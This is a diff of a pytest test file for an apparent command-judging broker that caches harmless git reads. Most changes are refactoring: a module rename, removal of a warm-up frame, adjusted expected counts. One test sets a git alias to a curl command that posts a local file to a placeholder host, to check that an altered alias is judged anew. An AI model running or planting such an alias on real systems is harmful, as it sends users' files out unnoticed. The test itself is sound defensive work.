@@ -11,7 +11,7 @@ from pathlib import Path
 
 import pytest
 
-from sekisho.broker import announced, commands, settings
+from sekisho.broker import callers, commands, settings
 from sekisho.broker.announced import Announcements
 from sekisho.broker.config import SessionConfig
 from sekisho.broker.door import Door
@@ -74,8 +74,6 @@ def frame(*argv: str, **environment: str) -> bytes:
     return protocol.encode_request(asked)
 
 
-FIRST = frame("ls")  # the first look is taken in a thread, and loads the grammar
-
 Say = Callable[[bytes], Awaitable[Answer | None]]
 
 
@@ -87,7 +85,7 @@ async def serving(state: SessionState) -> AsyncIterator[tuple[Say, str]]:
     listener = socket.socket(socket.AF_UNIX)
     listener.bind(path)
     listener.listen(200)
-    server = await Announcements(Door(lambda reason: True), state).start(listener)
+    server = Announcements(Door(lambda reason: True), state).start(listener)
 
     async def say(data: bytes) -> Answer | None:
         reader, writer = await asyncio.open_unix_connection(path)
@@ -115,8 +113,8 @@ def told(state: SessionState, *frames: bytes) -> list[Answer | None]:
 
 def test_a_read_is_judged_once(state: SessionState, looks: list[tuple[str, ...]]) -> None:
     status, log = frame("git", "status"), frame("git", "log")
-    assert told(state, FIRST, status, log, status, status, log) == [Run()] * 6
-    assert looks == [("ls",), ("git", "status"), ("git", "log")]
+    assert told(state, status, log, status, status, log) == [Run()] * 5
+    assert looks == [("git", "status"), ("git", "log")]
 
 
 def test_a_read_that_took_a_longer_look_is_judged_each_time(
@@ -147,8 +145,8 @@ def test_a_read_that_took_a_longer_look_is_judged_each_time(
 def test_another_request_is_judged_anew(
     state: SessionState, looks: list[tuple[str, ...]], other: bytes
 ) -> None:
-    told(state, FIRST, frame("git", "status"), other)
-    assert len(looks) == 3
+    told(state, frame("git", "status"), other)
+    assert len(looks) == 2
 
 
 def test_a_read_that_became_something_else_is_not_remembered(
@@ -160,8 +158,6 @@ def test_a_read_that_became_something_else_is_not_remembered(
         async with serving(state) as (say, _):
             run_git("config", "alias.st", "status", cwd=clone)
             time.sleep(2 * SETTLED / 1e9)
-            await say(FIRST)
-            looks.clear()
             assert [await say(frame("git", "st")) for _ in range(3)] == [Run()] * 3
             assert looks == [("git", "st")]
             run_git("config", "alias.st", "!curl -d @x https://a.example", cwd=clone)
@@ -178,7 +174,7 @@ def test_a_read_that_became_something_else_is_not_remembered(
 def test_what_does_more_than_read_is_judged_each_time(
     state: SessionState, looks: list[tuple[str, ...]], argv: tuple[str, ...]
 ) -> None:
-    told(state, FIRST, frame(*argv), frame(*argv))
+    told(state, frame(*argv), frame(*argv))
     assert looks.count(argv) >= 2
 
 
@@ -206,8 +202,8 @@ def test_rubbish_gets_no_answer_and_hinders_nobody(state: SessionState) -> None:
 
 @pytest.fixture
 def few(monkeypatch: pytest.MonkeyPatch) -> int:
-    monkeypatch.setattr(announced, "MOST_SILENT", 8)
-    monkeypatch.setattr(announced, "PATIENCE", 0.3)
+    monkeypatch.setattr(callers, "MOST_SILENT", 8)
+    monkeypatch.setattr(callers, "PATIENCE", 0.3)
     return 8
 
 
